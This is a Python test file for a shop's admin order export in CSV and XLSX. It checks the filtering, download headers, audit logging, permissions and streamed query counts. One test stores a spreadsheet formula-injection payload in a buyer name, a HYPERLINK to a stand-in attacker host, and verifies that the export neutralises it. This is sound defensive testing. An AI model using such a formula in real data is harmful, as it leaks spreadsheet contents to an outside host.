"""The list of orders as a file: what is in it, who may have it, what is written down, and what it costs."""

import csv
from io import BytesIO, StringIO

import pytest
from django.contrib.auth.models import Group, Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry

from shop.orders.models import Order
from tests.factories.shop import make_order, make_package

pytestmark = pytest.mark.django_db

LIST = "/admin/orders/"


def rows_of(response) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(response.getvalue().decode())))


def download(client, **filters):
    return client.get(LIST, {"export": "csv", **filters})


def test_it_holds_what_the_list_shows_filtered_as_the_list(staff, paid_order):
    make_order(buyer_name="Somebody else")

    response = download(staff, status="paid")

    assert response["Content-Type"] == "text/csv"
    assert response["Content-Disposition"] == 'attachment; filename="orders.csv"'
    assert "no-store" in response["Cache-Control"]
    (row,) = rows_of(response)
    assert row["Code"] == paid_order.code
    assert (row["Status"], row["Buyer"], row["E-mail"]) == ("Paid", "Ada Buyer", "ada@example.org")
    assert (row["Total"], row["Currency"], row["Country"]) == ("99.00", "USD", "US")
    assert row["Packages"] == f"1 × {paid_order.lines.get().sku}"


def test_a_name_is_no_formula_in_either_format(staff, paid_order):
    Order.objects.update(buyer_name='=HYPERLINK("https://evil.example/"&A1,"Pay")')

    (row,) = rows_of(download(staff))
    assert row["Buyer"].startswith("'=HYPERLINK(")

    response = staff.get(LIST, {"export": "xlsx"})
    sheet = load_workbook(BytesIO(response.getvalue())).active
    cells = {heading.value: cell for heading, cell in zip(*sheet.rows, strict=True)}
    assert cells["Buyer"].value.startswith("'=HYPERLINK(")
    assert {cell.data_type for cell in cells.values()} <= {"s", "n", "d"}
    assert not any(cell.hyperlink for cell in cells.values())
    assert (cells["Total"].value, cells["Total"].data_type) == (99, "n")


def test_who_takes_it_is_written_down_and_what_was_searched_for_is_not(staff, paid_order):
    download(staff, q="Ada", status="paid")

    entry = ModelLogEntry.objects.get(action="shop.export_orders")
    assert entry.user.username == "staff"
    assert entry.data == {"count": 1, "format": "csv", "filters": ["q", "status"]}
    assert entry.message == "1 order was downloaded"


def test_who_may_only_look_gets_the_list_and_is_told(staff, paid_order):
    permission = Permission.objects.get(codename="export_order")
    Group.objects.get(name="Staff").permissions.remove(permission)

    response = download(staff)

    assert response["Content-Type"].startswith("text/html")
    assert "This list cannot be downloaded." in response.content.decode()
    assert "Download CSV" not in response.content.decode()
    assert not ModelLogEntry.objects.filter(action="shop.export_orders").exists()


def test_it_is_streamed_with_as_many_queries_for_many_orders_as_for_one(staff, paid_order):
    def cost() -> int:
        with CaptureQueriesContext(connection) as queries:
            rows_of(download(staff))
        return len(queries)

    cost()
    few = cost()
    package = make_package()
    for _number in range(20):
        make_order(package=package)

    assert cost() == few
    assert download(staff).streaming
